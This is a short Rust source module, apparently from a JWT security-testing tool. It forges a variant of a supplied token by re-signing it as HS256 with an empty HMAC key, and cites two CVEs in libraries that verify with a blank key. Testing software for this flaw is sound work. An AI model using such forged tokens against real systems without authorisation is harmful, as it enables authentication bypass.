//! The token re-signed as HS256 with an empty HMAC key (CVE-2019-20933, CVE-2020-28637): some
//! libraries verify with `""` when no key is configured.

use super::{JwtAttack, JwtInputs, Variant};
use crate::jwt::forge::{Draft, HmacAlg};

pub(super) fn variants(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    let mut draft = Draft::from_token(inputs.token)?;
    let forged = draft.sign_hmac(HmacAlg::Hs256, b"");
    Ok(vec![Variant::jwt(JwtAttack::BlankSecret, None, forged)])
}
